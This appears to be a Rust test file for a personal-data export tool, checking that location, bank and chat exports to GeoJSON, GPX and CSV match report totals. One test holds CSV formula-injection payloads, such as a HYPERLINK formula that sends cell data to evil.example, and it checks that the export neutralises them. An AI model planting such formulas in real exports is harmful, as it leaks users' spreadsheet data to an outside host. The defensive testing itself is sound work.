//! Exports (issue 10, "reuse"): what was read from a file, written as GeoJSON, GPX and CSV,
//! parses and matches the report's findings; hostile names come out inert.

use std::path::Path;

use reflet::analysis::day::Kept;
use reflet::analysis::Memory;
use reflet::export::{export_entry, offered, write_trips, Format, What};
use reflet::ingest::FileSource;
use reflet::model::Summary;
use reflet::report::{describe_input_with, inspect_paths, FileReport, Sink};

use reflet::synth::person::{self, Kind as Who, Person, PersonSpec};

use super::common::fixture;

/// A synthetic office worker's three weeks as `Records.json`, in `dir`, and the person.
fn records(dir: &Path) -> (std::path::PathBuf, Person) {
    let person = Person::new(PersonSpec::new(Who::OfficeWorker, 21));
    let path = dir.join("Records.json");
    std::fs::write(&path, person::records_json(&person)).unwrap();
    (path, person)
}

/// `path` exported as `what` in `format`: the bytes and the count returned.
fn export(path: &Path, what: What, format: Format) -> (String, u64) {
    let name = path.file_name().unwrap().to_str().unwrap();
    let mut source = FileSource::open(path).unwrap();
    let mut out = Vec::new();
    let count = export_entry(name, &mut source, name, what, format, &mut out).unwrap();
    (String::from_utf8(out).unwrap(), count)
}

/// The one file's report, as `inspect` prints it.
fn report(path: &Path) -> FileReport {
    inspect_paths(&[path.to_path_buf()]).files.remove(0)
}

/// Every record of a CSV export, header first.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    // UTF-8 said first, for spreadsheets.
    let text = text
        .strip_prefix('\u{feff}')
        .expect("a CSV export starts with a BOM");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// How many `<tag` elements an XML document holds, after checking it is well formed.
fn xml_elements(text: &str, tag: &str) -> usize {
    let mut reader = quick_xml::Reader::from_str(text);
    let mut count = 0;
    loop {
        match reader.read_event().unwrap() {
            quick_xml::events::Event::Start(e) | quick_xml::events::Event::Empty(e)
                if e.name().as_ref() == tag =>
            {
                count += 1;
            }
            quick_xml::events::Event::Eof => return count,
            _ => {}
        }
    }
}

#[test]
fn positions_in_three_formats_hold_every_position_of_the_report() {
    let dir = tempfile::tempdir().unwrap();
    let (path, person) = records(dir.path());
    let file = report(&path);
    let Some(Summary::Positions(summary)) = &file.summary else {
        panic!("{file:?}")
    };
    assert_eq!(summary.count, person.points.len() as u64);
    let formats: Vec<Format> = offered(&file)
        .into_iter()
        .find(|(what, _)| *what == What::Positions)
        .unwrap()
        .1;
    assert_eq!(formats, [Format::GeoJson, Format::Gpx, Format::Csv]);

    let (geojson, n) = export(&path, What::Positions, Format::GeoJson);
    assert_eq!(n, summary.count);
    let doc: serde_json::Value = serde_json::from_str(&geojson).unwrap();
    let features = doc["features"].as_array().unwrap();
    assert_eq!(features.len() as u64, summary.count);
    // Every position within the report's bounding box, at the report's first instant first.
    let bbox = summary.bbox.as_ref().unwrap();
    for f in features {
        let [lng, lat] = [0, 1].map(|i| f["geometry"]["coordinates"][i].as_f64().unwrap());
        assert!(lat >= bbox.south - 1e-6 && lat <= bbox.north + 1e-6, "{f}");
        assert!(lng >= bbox.west - 1e-6 && lng <= bbox.east + 1e-6, "{f}");
    }
    let times: Vec<&str> = features
        .iter()
        .map(|f| f["properties"]["time"].as_str().unwrap())
        .collect();
    assert_eq!(times.iter().min().copied(), summary.first.as_deref());
    assert_eq!(times.iter().max().copied(), summary.last.as_deref());
    // Each position as planted, to the E7 the file was written in.
    for (f, planted) in features.iter().zip(&person.points) {
        let lat = f["geometry"]["coordinates"][1].as_f64().unwrap();
        assert!((lat - planted.lat).abs() < 1e-6, "{f}");
    }

    let (gpx, n) = export(&path, What::Positions, Format::Gpx);
    assert_eq!(n, summary.count);
    assert_eq!(xml_elements(&gpx, "trkpt") as u64, summary.count);

    let (csv_text, n) = export(&path, What::Positions, Format::Csv);
    let rows = csv_rows(&csv_text);
    assert_eq!(rows[0], ["time", "latitude", "longitude", "source"]);
    assert_eq!((rows.len() - 1) as u64, n);
    assert_eq!(n, summary.count);
}

/// Collects what is kept of each location file, as the worker does.
#[derive(Default)]
struct Keep(Vec<(FileReport, Kept)>);

impl Sink for Keep {
    fn report(&mut self, _: FileReport) {}
    fn kept(&mut self, report: &FileReport, kept: Kept) {
        self.0.push((report.clone(), kept));
    }
}

#[test]
fn trips_match_the_reports_totals() {
    let dir = tempfile::tempdir().unwrap();
    let (path, _) = records(dir.path());
    let mut source = FileSource::open(&path).unwrap();
    let mut keep = Keep::default();
    describe_input_with("Records.json", &mut source, &mut keep, Memory::Summary);
    let (file, kept) = keep.0.remove(0);
    let Some(Summary::Positions(summary)) = &file.summary else {
        panic!()
    };
    let trips = summary.trips.as_ref().unwrap();
    let records = kept.journal.records();
    assert_eq!(records.len() as u64, trips.trips);
    let metres: u64 = trips.modes.iter().map(|m| m.metres).sum();
    let exported: u64 = records.iter().map(|r| r.metres).sum();
    // Each trip's length is rounded to the metre, the totals once.
    assert!(
        exported.abs_diff(metres) <= trips.trips,
        "{exported} vs {metres}"
    );

    let mut out = Vec::new();
    assert_eq!(
        write_trips(&mut out, Format::GeoJson, &records).unwrap(),
        trips.trips
    );
    let doc: serde_json::Value = serde_json::from_slice(&out).unwrap();
    let features = doc["features"].as_array().unwrap();
    assert_eq!(features.len() as u64, trips.trips);
    let modes: std::collections::BTreeSet<&str> = features
        .iter()
        .map(|f| f["properties"]["mode"].as_str().unwrap())
        .collect();
    let summary_modes: std::collections::BTreeSet<String> = trips
        .modes
        .iter()
        .map(|m| reflet::export::geo::key(&m.mode))
        .collect();
    assert_eq!(
        modes
            .iter()
            .map(|m| (*m).to_owned())
            .collect::<std::collections::BTreeSet<_>>(),
        summary_modes
    );

    let mut out = Vec::new();
    let n = write_trips(&mut out, Format::Csv, &records).unwrap();
    let rows = csv_rows(std::str::from_utf8(&out).unwrap());
    assert_eq!((rows.len() - 1) as u64, n);
    assert_eq!(rows[0][..4], ["start", "end", "mode", "metres"]);

    let mut out = Vec::new();
    let n = write_trips(&mut out, Format::Gpx, &records).unwrap();
    assert_eq!(
        xml_elements(std::str::from_utf8(&out).unwrap(), "trk") as u64,
        n
    );
    assert!(n > 0);
}

#[test]
fn transactions_add_up_to_the_reports_money_in_and_out() {
    let path = fixture("bank.ofx", "releve_2024.ofx");
    let file = report(&path);
    let Some(Summary::Money(money)) = &file.summary else {
        panic!("{file:?}")
    };
    assert_eq!(offered(&file), [(What::Records, vec![Format::Csv])]);
    let (text, n) = export(&path, What::Records, Format::Csv);
    let rows = csv_rows(&text);
    assert_eq!(rows[0], ["time", "type", "name", "detail", "value", "unit"]);
    assert_eq!(n, money.transactions);
    assert_eq!((rows.len() - 1) as u64, n);
    // Amounts written to the cent: `-12.5`, `1234`, `0.07`.
    let cents: Vec<i64> = rows[1..]
        .iter()
        .map(|r| {
            assert_eq!(r[1], "transaction");
            let (units, fraction) = r[4].split_once('.').unwrap_or((&r[4], ""));
            let sign = if units.starts_with('-') { -1 } else { 1 };
            let units: i64 = units.trim_start_matches('-').parse().unwrap();
            let fraction: i64 = format!("{fraction:0<2}").parse().unwrap();
            sign * (units * 100 + fraction)
        })
        .collect();
    let money_in: i64 = cents.iter().filter(|c| **c > 0).sum();
    let money_out: i64 = cents.iter().filter(|c| **c < 0).sum();
    assert_eq!(money_in, money.money_in);
    assert_eq!(money_out, -money.money_out.abs());
}

/// Whether a spreadsheet would take `cell` for a formula.
fn formula(cell: &str) -> bool {
    matches!(
        cell.trim_start().chars().next(),
        Some('=' | '+' | '-' | '@' | '\t' | '\r')
    )
}

#[test]
fn hostile_advertiser_and_contact_names_come_out_as_text() {
    for (name, kind, count) in [
        (
            "advertisers_using_your_activity_or_information.json",
            "advertiser",
            7,
        ),
        ("WhatsApp Chat with Famille.txt", "message", 4),
    ] {
        let path = Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/fixtures/hostile")
            .join(name);
        let (text, n) = export(&path, What::Records, Format::Csv);
        assert_eq!(n, count, "{name}");
        let rows = csv_rows(&text);
        let names: Vec<&str> = rows[1..]
            .iter()
            .inspect(|r| assert_eq!(r[1], kind))
            .map(|r| r[2].as_str())
            .collect();
        assert!(
            names.iter().any(|n| n.contains("HYPERLINK")),
            "{name}: {names:?}"
        );
        for row in &rows {
            for cell in row {
                assert!(!formula(cell), "{name}: {cell:?} would run as a formula");
            }
        }
        // The names are kept, only made inert: `'=HYPERLINK(…)`, the markup as written.
        let hyperlink = if kind == "advertiser" {
            "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Cliquez ici\")"
        } else {
            "'=HYPERLINK(\"http://evil.example\",\"x\")"
        };
        assert!(names.contains(&hyperlink), "{name}: {names:?}");
        assert!(names.iter().any(|n| n.starts_with("<script>")), "{name}");
    }
}
